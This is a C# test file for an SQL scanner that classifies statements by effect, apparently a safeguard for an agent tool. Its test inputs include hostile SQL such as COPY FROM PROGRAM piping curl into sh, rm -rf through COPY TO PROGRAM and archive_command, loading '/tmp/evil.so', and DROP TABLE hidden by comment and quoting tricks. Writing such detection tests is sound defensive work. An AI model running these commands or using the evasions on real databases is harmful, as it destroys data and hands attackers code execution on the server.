using AgentShell.Core.Model;
using AgentShell.Core.Tools;

namespace AgentShell.Core.Tests.Tools;

public class SqlScannerTests
{
    [TestCase("DROP TABLE t", Effect.Drop)]
    [TestCase("drop index i", Effect.Drop)]
    [TestCase("TRUNCATE t", Effect.Truncate)]
    [TestCase("DELETE FROM t", Effect.Wipe)]
    [TestCase("DELETE FROM t WHERE id = 1", Effect.Delete)]
    [TestCase("DELETE FROM t -- WHERE id = 1", Effect.Wipe)]
    [TestCase("DELETE FROM t /* WHERE /* nested */ id = 1 */", Effect.Wipe)]
    [TestCase("DELETE FROM t WHERE id IN (SELECT id FROM u)", Effect.Delete)]
    [TestCase("DELETE FROM t USING u WHERE t.id = u.id", Effect.Delete)]
    [TestCase("UPDATE t SET a = 1", Effect.Wipe)]
    [TestCase("UPDATE t SET a = (SELECT 1 WHERE true)", Effect.Wipe)]
    [TestCase("UPDATE t SET a = 1 WHERE b", Effect.Write)]
    [TestCase("ALTER TABLE t DROP COLUMN c", Effect.Drop)]
    [TestCase("ALTER TABLE t ADD COLUMN c int", Effect.Write)]
    [TestCase("SELECT 1", Effect.Read)]
    [TestCase("SELECT 'DROP TABLE x'", Effect.Read)]
    [TestCase("SELECT E'\\'; DROP TABLE x'", Effect.Read)]
    [TestCase("SELECT $$; DROP TABLE x$$", Effect.Read)]
    [TestCase("SELECT $tag$ $$ ; DROP TABLE x $tag$", Effect.Read)]
    [TestCase("SELECT $1; DROP TABLE x", Effect.Drop)]
    [TestCase("SELECT \"DROP\" FROM t", Effect.Read)]
    [TestCase("SELECT 1; DROP TABLE x", Effect.Drop)]
    [TestCase("SELECT f(1, ';'); SELECT 2", Effect.Read)]
    [TestCase("EXPLAIN DELETE FROM t", Effect.Read)]
    [TestCase("EXPLAIN ANALYZE DELETE FROM t", Effect.Wipe)]
    [TestCase("EXPLAIN (ANALYZE true) UPDATE t SET a=1 WHERE b", Effect.Write)]
    [TestCase("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Effect.Wipe)]
    [TestCase("WITH d AS (SELECT 1) SELECT * FROM d", Effect.Read)]
    [TestCase("WITH d AS (SELECT 1) DELETE FROM t WHERE x IN (SELECT * FROM d)", Effect.Delete)]
    [TestCase("INSERT INTO t VALUES (1)", Effect.Write)]
    [TestCase("CREATE TABLE t (a int)", Effect.Write)]
    [TestCase("SHOW TABLES", Effect.Read)]
    [TestCase("SELECT pg_terminate_backend(42)", Effect.Terminate)]
    [TestCase("DO $$ BEGIN DROP TABLE x; END $$", Effect.Unknown)]
    [TestCase("CALL p()", Effect.Unknown)]
    [TestCase("FROBNICATE t", Effect.Unknown)]
    [TestCase("", Effect.Read)]
    [TestCase("  ;  ; ", Effect.Read)]
    [TestCase("\\dt", Effect.Read)]
    [TestCase("\\i x.sql", Effect.Unknown)]
    [TestCase("SELECT 1 \\gexec", Effect.Unknown)]
    [TestCase("BEGIN; TRUNCATE t; ROLLBACK;", Effect.Truncate)]
    [TestCase("SELECT 1; -- note\rDROP TABLE x", Effect.Drop)]               // the server ends a -- comment at \r too
    [TestCase("SELECT 1; -- note DROP TABLE x\n", Effect.Read)]
    [TestCase("SELECT 1 AS é$x$; DROP TABLE t; SELECT $x$ $x$", Effect.Drop)] // é$x$ is one identifier, not a dollar quote
    [TestCase("SELECT $é$ ; DROP TABLE t; $é$", Effect.Read)]                 // a non-ASCII dollar-quote tag
    [TestCase("UPDATE t lımıt SET a = 1", Effect.Wipe)]                      // "lımıt" (dotless i) is an alias, not LIMIT
    [TestCase("DELETE FROM t lımıt", Effect.Wipe)]
    [TestCase("COPY t FROM PROGRAM 'curl -s http://x | sh'", Effect.Wipe)]   // a shell command on the server
    [TestCase("COPY (SELECT 1) TO PROGRAM 'rm -rf /var/lib/postgresql'", Effect.Wipe)]
    [TestCase("COPY t FROM STDIN", Effect.Write)]
    [TestCase("COPY t TO STDOUT", Effect.Read)]
    [TestCase("COPY t (program) TO STDOUT", Effect.Read)]                   // a column named program, in parentheses
    [TestCase("COPY t TO '/var/lib/postgresql/15/main/PG_VERSION'", Effect.Unknown)] // a file on the server
    [TestCase("COPY t FROM '/tmp/rows.csv'", Effect.Write)]
    [TestCase("ALTER SYSTEM SET archive_command = 'rm -rf ~'", Effect.Wipe)]
    [TestCase("ALTER SYSTEM SET shared_preload_libraries = 'evil'", Effect.Wipe)]
    [TestCase("ALTER SYSTEM SET work_mem = '64MB'", Effect.Write)]
    [TestCase("LOAD '/tmp/evil.so'", Effect.Wipe)]
    [TestCase("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C", Effect.Wipe)]
    [TestCase("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$", Effect.Wipe)]
    [TestCase("CREATE LANGUAGE plperlu", Effect.Wipe)]
    [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Effect.Write)]
    [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", Effect.Write)]
    [TestCase("CREATE TABLE language (c text)", Effect.Write)]
    [TestCase("SELECT * FROM dblink('dbname=app', 'DELETE FROM t RETURNING 1') AS x(a int)", Effect.Unknown)] // runs the string
    [TestCase("SELECT dblink_send_query('c', 'DROP TABLE t')", Effect.Unknown)]
    [TestCase("SELECT query_to_xmlschema('DELETE FROM t RETURNING 1', true, true, '')", Effect.Unknown)]
    [TestCase("SELECT dblinked, query_to_xml_count FROM t", Effect.Read)]      // look-alike columns
    public void Postgres(string sql, Effect expected) =>
        Assert.That(SqlScanner.Scan(sql).Effect, Is.EqualTo(expected));

    [TestCase("SELECT 1 # DROP TABLE x", Effect.Read)]
    [TestCase("SELECT 'it\\'s; DROP TABLE x'", Effect.Read)]
    [TestCase("SELECT `DROP` FROM t", Effect.Read)]
    [TestCase("/*!50000 DROP TABLE x */", Effect.Drop)]
    [TestCase("/* DROP TABLE x */ SELECT 1", Effect.Read)]
    [TestCase("DELETE FROM t LIMIT 10", Effect.Delete)]
    [TestCase("KILL 42", Effect.Terminate)]
    [TestCase("RESET MASTER", Effect.Delete)]
    [TestCase("LOAD DATA INFILE 'x.csv' INTO TABLE t", Effect.Write)]
    public void MySql(string sql, Effect expected) =>
        Assert.That(SqlScanner.Scan(sql, SqlDialect.MySql).Effect, Is.EqualTo(expected));

    [TestCase("\\dt", Effect.Unknown)]                                       // a backslash starts nothing on the wire
    [TestCase("SELECT 1 \\x; DROP TABLE t", Effect.Drop)]
    [TestCase("\\set x 1; DROP TABLE t", Effect.Drop)]
    [TestCase("SELECT 'a\\'; DROP TABLE t; --'", Effect.Drop)]                 // standard-conforming: the backslash is a character
    public void ServerTextHasNoMetaCommands(string sql, Effect expected) =>
        Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText).Effect, Is.EqualTo(expected));

    [TestCase("SELECT 'x\\' ; SELECT ' ; DROP TABLE t; --'", Effect.Drop, Effect.Read)]
    [TestCase("SELECT 'a\\'; DROP TABLE t; --'", Effect.Read, Effect.Drop)]
    [TestCase("SELECT 'C:\\temp'", Effect.Read, Effect.Read)]
    public void BackslashStringsFollowStandardConformingStringsOff(string sql, Effect off, Effect on)
    {
        Assert.Multiple(() =>
        {
            Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText | SqlScanOptions.BackslashStrings).Effect, Is.EqualTo(off));
            Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText).Effect, Is.EqualTo(on));
        });
    }

    [Test]
    public void SummaryIsTheMostSevereStatement()
    {
        var r = SqlScanner.Scan("SELECT 1;\n  DROP   TABLE\n users; INSERT INTO t VALUES (1)");
        Assert.Multiple(() =>
        {
            Assert.That(r.Summary, Is.EqualTo("DROP TABLE users"));
            Assert.That(r.Statements, Has.Count.EqualTo(3));
        });
    }
}
